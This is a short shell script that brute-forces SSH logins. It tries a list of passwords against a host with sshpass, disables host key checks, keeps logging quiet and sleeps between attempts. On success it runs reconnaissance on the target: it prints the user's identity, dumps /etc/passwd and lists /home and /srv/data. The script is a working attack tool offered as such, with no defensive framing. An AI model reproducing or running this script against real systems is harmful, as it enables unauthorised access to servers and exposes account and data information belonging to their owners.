#!/bin/sh
# guess.sh PAUSE_S HOST USER PASSWORD...: logs in with one password after the other; exit code 0 when one fits. With the one
# that fits it looks around.
pause=$1 host=$2 user=$3
shift 3
for word in "$@"; do
    if sshpass -p "$word" ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR \
        -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 "$user@$host" 'id; cat /etc/passwd; ls -la /home /srv/data'; then
        exit 0
    fi
    sleep "$pause"
done
exit 1
